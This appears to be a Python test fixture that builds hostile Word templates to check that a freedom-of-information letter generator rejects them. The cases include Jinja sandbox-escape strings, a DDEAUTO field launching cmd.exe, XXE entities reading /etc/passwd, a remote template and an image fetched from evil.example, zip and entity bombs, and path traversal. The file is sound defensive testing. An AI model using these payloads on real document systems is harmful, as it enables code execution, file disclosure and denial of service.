"""Templates from the internet, or from a colleague's drawer: each is the packaged response.docx with one thing added."""

import io
import zipfile
from collections.abc import Callable
from xml.sax.saxutils import escape, quoteattr

import openpyxl

from foi_letters.assembly.package import CONTENT_TYPES, read_package, write_package
from foi_letters.resources import packaged
from tests.hostile.case import Folder, Hostile, Right, Wrong

Parts = dict[str, bytes]
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOCUMENT = "word/document.xml"
RELATIONSHIPS = "word/_rels/document.xml.rels"


class _Template:
    """Gives the authority a template of its own: text and XML at its beginning, parts changed, bytes changed."""

    def __init__(
        self,
        text: str = "",
        *,
        xml: str = "",
        parts: Callable[[Parts], object] = lambda _: None,
        last: Callable[[bytes], bytes] = lambda data: data,
    ) -> None:
        self.xml = xml or "".join(
            f"<w:p><w:r><w:t>{escape(line)}</w:t></w:r></w:p>" for line in text.split("\n")
        )
        self.parts, self.last = parts, last

    def __call__(self, folder: Folder) -> None:
        parts = dict(read_package(packaged("templates") / "response.docx").parts)
        parts[DOCUMENT] = parts[DOCUMENT].replace(b"<w:body>", b"<w:body>" + self.xml.encode(), 1)
        self.parts(parts)
        folder.write("templates/response.docx", self.last(write_package(parts)))
        folder.write(
            "authority.yaml", (folder.path / "authority.yaml").read_text() + "templates: templates\n"
        )


def _field(code: str) -> str:
    return f"<w:p><w:fldSimple w:instr={quoteattr(code)}><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"


def _relate(parts: Parts, kind: str, target: str, id_: str = "rIdX", *, external: bool = True) -> None:
    mode = ' TargetMode="External"' if external else ""
    entry = f'<Relationship Id="{id_}" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
    parts[RELATIONSHIPS] = parts[RELATIONSHIPS].replace(
        b"</Relationships>", entry.encode() + b"</Relationships>"
    )


def _add(parts: Parts, name: str, content_type: str, data: bytes) -> None:
    override = f'<Override PartName="/{name}" ContentType="{content_type}"/>'
    parts[CONTENT_TYPES] = parts[CONTENT_TYPES].replace(b"</Types>", override.encode() + b"</Types>")
    parts[name] = data


def _macro(parts: Parts) -> None:
    _add(parts, "word/vbaProject.bin", "application/vnd.ms-office.vbaProject", b"\xd0\xcf\x11\xe0")
    entry = (
        b'<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"'
        b' Target="vbaProject.bin"/></Relationships>'
    )
    parts[RELATIONSHIPS] = parts[RELATIONSHIPS].replace(b"</Relationships>", entry)


def _docm(parts: Parts) -> None:
    old, new = b"wordprocessingml.document.main+xml", b"macroEnabled.main+xml"
    types = parts[CONTENT_TYPES].replace(
        b"vnd.openxmlformats-officedocument." + old, b"vnd.ms-word.document." + new
    )
    assert types != parts[CONTENT_TYPES]
    parts[CONTENT_TYPES] = types


def _remote_template(parts: Parts) -> None:
    settings = "word/settings.xml"
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{OFFICE}/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    )
    parts["word/_rels/settings.xml.rels"] = rels.encode()
    assert settings in parts


def _embedded(parts: Parts) -> None:
    _add(
        parts,
        "word/embeddings/oleObject1.bin",
        "application/vnd.openxmlformats-officedocument.oleObject",
        b"\xd0\xcf",
    )
    _relate(parts, "oleObject", "embeddings/oleObject1.bin", external=False)


def _alt_chunk(parts: Parts) -> None:
    _add(parts, "word/chunk.html", "text/html", b"<html><script>alert(1)</script></html>")
    _relate(parts, "aFChunk", "chunk.html", external=False)
    parts[DOCUMENT] = parts[DOCUMENT].replace(b"<w:body>", b'<w:body><w:altChunk r:id="rIdX"/>', 1)


def _custom_xml(parts: Parts) -> None:
    _add(parts, "customXml/item1.xml", "application/xml", b"<secret>9483</secret>")
    _relate(parts, "customXml", "../customXml/item1.xml", external=False)


def _stray(parts: Parts) -> None:
    _add(parts, "word/raw.csv", "text/csv", b"9483")


def _external_image(parts: Parts) -> None:
    _relate(parts, "image", "http://evil.example/pixel.png")


def _prefix(xml: bytes) -> Callable[[Parts], object]:
    def change(parts: Parts) -> None:
        parts[DOCUMENT] = xml + parts[DOCUMENT].partition(b"?>")[2]

    return change


def _zip_bomb(parts: Parts) -> None:
    parts[DOCUMENT] += b" " * 130_000_000


def _member(name: str) -> Callable[[bytes], bytes]:
    def add(package: bytes) -> bytes:
        stream = io.BytesIO(package)
        with zipfile.ZipFile(stream, "a") as archive:
            archive.writestr(name, b"<x/>")
        return stream.getvalue()

    return add


def _workbook(_: bytes) -> bytes:
    saved = io.BytesIO()
    openpyxl.Workbook().save(saved)
    return saved.getvalue()


def _deep(parts: Parts) -> None:
    nest = b"<w:tbl><w:tr><w:tc>" * 400 + b"<w:p/>" + b"</w:tc></w:tr></w:tbl>" * 400
    parts[DOCUMENT] = parts[DOCUMENT].replace(b"<w:body>", b"<w:body>" + nest, 1)


ENTITY = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
BOMB = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
HERE = "response.docx"
HIDDEN = "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>9483</w:t></w:r></w:p>"
WHITE = '<w:p><w:r><w:rPr><w:color w:val="FFFFFF"/></w:rPr><w:t>9483</w:t></w:r></w:p>'
TINY = '<w:p><w:r><w:rPr><w:sz w:val="2"/></w:rPr><w:t>9483</w:t></w:r></w:p>'
DELETED = '<w:p><w:del w:id="1" w:author="A Clerk"><w:r><w:delText>9483</w:delText></w:r></w:del></w:p>'

TEMPLATES = [
    Hostile(
        "a template that is right", _Template("{{ authority.name }}"), Right(("Northshire Constabulary",))
    ),
    Hostile("a class walk", _Template("{{ ''.__class__.__mro__ }}"), Wrong("__class__", HERE)),
    Hostile(
        "globals of a function",
        _Template("{{ cycler.__init__.__globals__ }}"),
        Wrong("is private to the program", "response.docx: paragraph 1"),
    ),
    Hostile("attr by name", _Template("{{ authority|attr('__class__') }}"), Wrong("attr", HERE)),
    Hostile(
        "format as an escape",
        _Template("{{ '{0.__class__}'.format(authority) }}"),
        Wrong("__class__", "response.docx: paragraph 1"),
    ),
    Hostile("an import", _Template("{% import 'os' as os %}"), Wrong("import", HERE)),
    Hostile("an include", _Template("{% include '/etc/passwd' %}"), Wrong("include", HERE)),
    Hostile("an unknown tag", _Template("{{ authority.nmae }}"), Wrong("nmae", HERE)),
    Hostile(
        "a tag that is not closed",
        _Template("{{ authority.name"),
        Wrong("never closed", "response.docx: paragraph 1"),
    ),
    Hostile(
        "a block that is not closed",
        _Template("{% if authority.name %}"),
        Wrong("never closed", "response.docx: paragraph 1"),
    ),
    Hostile(
        "memory without end", _Template("{{ 'A' * 3000000000 }}"), Wrong("more than a letter needs", HERE)
    ),
    Hostile(
        "a power without end",
        _Template("{{ 9 ** 9 ** 9 ** 9 ** 9 ** 9 }}"),
        Wrong("more than a letter needs", "response.docx: paragraph 1"),
    ),
    Hostile(
        "loops in loops",
        _Template(
            "{% for a in range(99999) %}{% for b in range(99999) %}{% for c in range(99999) %}x{% endfor %}{% endfor %}{% endfor %}"
        ),
        Wrong("more than a letter needs", HERE),
    ),
    Hostile(
        "a macro that calls itself",
        _Template("{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}"),
        Wrong("goes on without end", "response.docx: paragraph 1"),
    ),
    Hostile(
        "an assignment to a context object",
        _Template("{% set authority.name = 'x' %}"),
        Wrong("cannot assign", "response.docx"),
    ),
    Hostile(
        "a template without tags",
        _Template(parts=lambda parts: parts.update({DOCUMENT: _bare(parts[DOCUMENT])})),
        Right(),
    ),
    Hostile("a macro", _Template(parts=_macro), Wrong("macro", HERE)),
    Hostile("a .docm with another name", _Template(parts=_docm), Wrong("macro", HERE)),
    Hostile("a remote template", _Template(parts=_remote_template), Right()),
    Hostile(
        "a picture from outside", _Template(parts=_external_image), Wrong("evil.example", "letter.docx", (4,))
    ),
    Hostile(
        "an embedded object",
        _Template(parts=_embedded),
        Wrong("embedded file or object", "letter.docx", (4,)),
    ),
    Hostile(
        "another document inside",
        _Template(parts=_alt_chunk),
        Wrong("another document inside the file", "letter.docx", (4,)),
    ),
    Hostile(
        "a DDE field",
        _Template(xml=_field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')),
        Wrong("DDEAUTO", "letter.docx", (4,)),
    ),
    Hostile(
        "a field that includes a file",
        _Template(xml=_field("INCLUDETEXT /etc/passwd")),
        Wrong("INCLUDETEXT", "letter.docx", (4,)),
    ),
    Hostile(
        "a field that prints the path",
        _Template(xml=_field("FILENAME \\p")),
        Wrong("FILENAME", "letter.docx", (4,)),
    ),
    Hostile("custom XML", _Template(parts=_custom_xml), Right()),
    Hostile("a stray part", _Template(parts=_stray), Right()),
    Hostile("a tracked deletion", _Template(xml=DELETED), Right()),
    Hostile("hidden text", _Template(xml=HIDDEN), Wrong("vanish", "letter.docx", (4,))),
    Hostile(
        "white text",
        _Template(xml=WHITE),
        Wrong("colour of its background", "letter.docx: body, paragraph 1", (4,)),
    ),
    Hostile(
        "text of 1 point",
        _Template(xml=TINY),
        Wrong("too small to see", "letter.docx: body, paragraph 1", (4,)),
    ),
    Hostile(
        "an entity from outside in a template", _Template(parts=_prefix(ENTITY)), Wrong("entities", HERE)
    ),
    Hostile("an entity bomb in a template", _Template(parts=_prefix(BOMB)), Wrong("entities", HERE)),
    Hostile("a ZIP bomb as a template", _Template(parts=_zip_bomb), Wrong("unpacks to more", HERE)),
    Hostile("tables nested 400 deep", _Template(parts=_deep), Wrong("Excessive depth", "response.docx")),
    Hostile(
        "a part that climbs out of a template",
        _Template(last=_member("../../evil.xml")),
        Wrong("lead out of the file", HERE),
    ),
    Hostile(
        "two parts of one name in a template",
        _Template(last=_member("WORD/document.xml")),
        Wrong("two parts", HERE),
    ),
    Hostile(
        "a template with a password",
        _Template(last=lambda _: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
        Wrong("password", HERE),
    ),
    Hostile("a template cut short", _Template(last=lambda data: data[:2000]), Wrong("damaged", HERE)),
    Hostile(
        "a workbook called .docx", _Template(last=_workbook), Wrong("not a Word document", "response.docx")
    ),
    Hostile("text called .docx", _Template(last=lambda _: b"Dear Sir or Madam"), Wrong("not a Word", HERE)),
]


def _bare(document: bytes) -> bytes:
    """The document with one paragraph of plain text for a body."""
    start, end = document.index(b"<w:body>"), document.index(b"<w:sectPr", document.rindex(b"</w:p>"))
    return document[:start] + b"<w:body><w:p><w:r><w:t>Dear all</w:t></w:r></w:p>" + document[end:]
